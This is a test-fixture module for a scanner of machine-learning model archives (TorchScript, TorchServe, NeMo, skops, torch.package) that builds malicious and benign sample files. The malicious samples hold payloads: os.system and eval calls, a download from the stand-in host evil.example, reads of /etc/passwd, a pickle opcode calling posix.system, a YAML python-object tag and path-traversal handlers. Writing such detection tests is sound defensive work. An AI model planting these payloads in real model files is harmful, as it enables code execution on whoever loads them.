"""TorchScript, TorchServe, NeMo, torch.package and skops archives, and archives of other things."""

from __future__ import annotations

import json

from tests.checks.model_artefact.samples import HARMLESS, TORCH_ZIP, tarred, zipped

SOURCE = b"import torch\nclass Handler:\n    def handle(self, data, context):\n        return torch.ones(1)\n"
RUNS = {
    "os.system": b"import os\nos.system('id')\n",
    "a renamed module": b"import os as helper\nhelper.popen('id')\n",
    "an imported function": b"from subprocess import Popen as P\nP(['id'])\n",
    "eval": b"def f(x):\n    return eval(x)\n",
    "exec by another name": b"run = exec\nrun('1')\n",
    "a function by another name": b"import os\nrun = os.system\nrun('id')\n",
    "__import__": b"__import__('os').system('id')\n",
    "importlib": b"import importlib\nimportlib.import_module('o' + 's')\n",
    "a socket": b"import socket\nsocket.socket()\n",
    "marshal": b"import marshal\nmarshal.loads(b'')\n",
    "a download": b"import urllib.request\nurllib.request.urlopen('https://evil.example')\n",
    "globals of a function": b"f.__globals__['x']\n",
    "source that breaks": b"import os\nos.system('id')\nif:\n",
}
TARGETS = (
    "os.system", "builtins.eval", "subprocess.Popen", "posix.system", "importlib.import_module", "hydra.utils.get_method", "torch.hub.load",
    "acme.layers.Net", "__main__.Net", "numpy.load", "nemo.core.os.system", "pickle.loads", "pty.spawn", "torch.nn.functional.os.system",
)
SCRIPTS = {
    "saving": 'torch.save(x, "/etc/cron.d/x")',
    "reading": 'torch.from_file("/etc/passwd", False, 10)',
    "reading by its full name": 'ops.aten.from_file("/etc/passwd")',
    "writing a picture": 'ops.image.write_file("/etc/x", x)',
    "reading a picture": 'ops.image.read_file("/etc/passwd")',
    "calling another host": 'rpc_async("worker", f)',
    "Python's function": "^MyFunction(1)(x)",
}


def script(line: str) -> bytes:
    return f"class Net(Module):\n  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n    _0 = {line}\n    return x\n".encode()


def torchscript(line: str) -> bytes:
    return zipped({"net/data.pkl": HARMLESS, "net/code/__torch__.py": script(line), "net/constants.pkl": HARMLESS, "net/version": b"3\n"})


def mar(handler: str = "handler.py", source: bytes | None = None, **model: str) -> bytes:
    manifest = {"runtime": "python", "model": {"modelName": "m", "serializedFile": "model.pt", "handler": handler, **model}}
    members = {"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "model.pt": TORCH_ZIP}
    return zipped(members if source is None else {**members, "handler.py": source})


def nemo(target: str) -> bytes:
    settings = f"encoder:\n  _target_: {target}\n  d_model: 4\n"
    return tarred({"./model_config.yaml": settings.encode(), "./model_weights.ckpt": TORCH_ZIP})


def skops(loader: str, module: str, name: str, **more: object) -> bytes:
    inner = {"__class__": name, "__module__": module, "__loader__": loader, "content": {}, **more}
    root = {"__class__": "Pipeline", "__module__": "sklearn.pipeline", "__loader__": "ObjectNode", "content": {"steps": inner}}
    return zipped({"schema.json": json.dumps(root).encode()})


NODES = {
    "a method": ("MethodNode", "sklearn.linear_model._base", "predict"),
    "an operator": ("OperatorFuncNode", "operator", "methodcaller"),
    "an operator with a trusted name": ("OperatorFuncNode", "sklearn.x", "y"),
    "joblib's fallback": ("JoblibNode", "sklearn.x", "y"),
    "an unknown node": ("EvilNode", "builtins", "list"),
    "os.system": ("FunctionNode", "os", "system"),
    "posix.system": ("FunctionNode", "posix", "system"),
    "builtins.eval": ("FunctionNode", "builtins", "eval"),
    "a type of the standard library": ("TypeNode", "subprocess", "Popen"),
    "an object of the standard library": ("ObjectNode", "ctypes", "CDLL"),
    "numpy.load": ("FunctionNode", "numpy", "load"),
    "numpy.fromfile": ("FunctionNode", "numpy", "fromfile"),
    "a loader of sklearn": ("FunctionNode", "sklearn.datasets._base", "load_files"),
    "a partial": ("PartialNode", "functools", "partial"),
}


def guilty() -> dict[str, tuple[str, bytes]]:
    """Guilty files."""
    package = {"p/.data/extern_modules": b"os\n", "p/.data/version": b"6\n", "p/model.py": RUNS["os.system"], "p/model.pkl": HARMLESS}
    return {
        **{f"torchscript: {case}": ("net.pt", torchscript(line)) for case, line in SCRIPTS.items()},
        "torchscript: another name": ("net.bin", torchscript(SCRIPTS["saving"])),
        **{f"mar: {case}": ("model.mar", mar(source=source)) for case, source in RUNS.items()},
        "mar: a handler outside": ("model.mar", mar("../../x.py:handle")),
        "mar: weights outside": ("model.mar", mar(serializedFile="/etc/passwd")),
        "mar: weights from afar": ("model.mar", mar(serializedFile="https://evil.example/x")),
        "mar: another name": ("model.zip", mar(source=RUNS["eval"])),
        "mar: a manifest that is none": ("model.mar", zipped({"MAR-INF/MANIFEST.json": b"{", "handler.py": RUNS["eval"]})),
        **{f"nemo: {target}": ("model.nemo", nemo(target)) for target in TARGETS},
        "nemo: in quotes": ("model.nemo", nemo("'os.system'")),
        "nemo: with a colon": ("model.nemo", nemo("os:system")),
        "nemo: by an alias": ("model.nemo", nemo("*x")),
        "nemo: in escapes": ("model.nemo", tarred({"model_config.yaml": b'"\\x5ftarget\\x5f": os.system\n', "w.ckpt": TORCH_ZIP})),
        "nemo: in one line": ("model.nemo", tarred({"model_config.yaml": b"a: {_target_: os.system, b: 1}\n", "w.ckpt": TORCH_ZIP})),
        "nemo: an object of Python": ("model.nemo", tarred({"model_config.yaml": b"a: !!python/object/apply:os.system [id]\n", "w": b""})),
        "nemo: as a zip": ("model.nemo", zipped({"model_config.yaml": b"_target_: os.system\n"})),
        "nemo: another name": ("model.bin", nemo("os.system")),
        "nemo: Python beside": ("model.nemo", tarred({"model_config.yaml": b"a: 1\n", "setup.py": RUNS["os.system"]})),
        **{f"skops: {case}": ("model.skops", skops(*node)) for case, node in NODES.items()},
        "skops: another name": ("model.zip", skops(*NODES["os.system"])),
        "skops: a key that stands twice": (
            "model.skops",
            zipped({"schema.json": b'{"__module__": "os", "__module__": "sklearn.x", "__class__": "system", "__loader__": "ObjectNode"}'}),
        ),
        "an archive stored in an archive": ("model.bin", zipped({"a.bin": zipped({"b": b"\x80\x02cposix\nsystem\n(S'id'\ntR."})})),
        "torch package": ("package.pt", zipped(package)),
    }


def innocent() -> dict[str, tuple[str, bytes]]:
    """Innocent files."""
    targets = ("nemo.collections.asr.modules.ConformerEncoder", "torch.optim.AdamW", "torch.nn.Linear", "pytorch_lightning.Trainer")
    return {
        "torchscript: plain": ("net.pt", torchscript("torch.relu(x)")),
        "torchscript: of vision": ("net.pt", torchscript("ops.torchvision.nms(x, y, 0.5)")),
        "torchscript: an attribute called save": ("net.pt", torchscript("(self.save).forward(x)")),
        **{f"nemo: {target}": ("model.nemo", nemo(target)) for target in targets},
        "mar: without a handler of its own": ("model.mar", mar("image_classifier")),
        "skops: a forest": ("model.skops", skops("ObjectNode", "sklearn.ensemble._forest", "RandomForestClassifier")),
        "skops: an array": ("model.skops", skops("NdArrayNode", "numpy", "ndarray", type="numpy", file="1.npy")),
        "skops: a list": ("model.skops", skops("ListNode", "builtins", "list")),
        "skops: a function of numpy": ("model.skops", skops("FunctionNode", "numpy", "log1p")),
        "an archive stored in an archive": ("arrays.npz", zipped({"a.bin": TORCH_ZIP, "b.bin": TORCH_ZIP, "c": b"1"})),
        "an archive of source": ("release.zip", zipped({"app/main.py": RUNS["os.system"], "config.yaml": b"_target_: os.system\n"})),
        "an archive with a schema": ("data.zip", zipped({"schema.json": b'{"type": "object", "__module__": 1}'})),
        "a tar of settings": ("settings.tar", tarred({"hydra.yaml": b"_target_: acme.Net\n", "a.txt": b"x"})),
    }
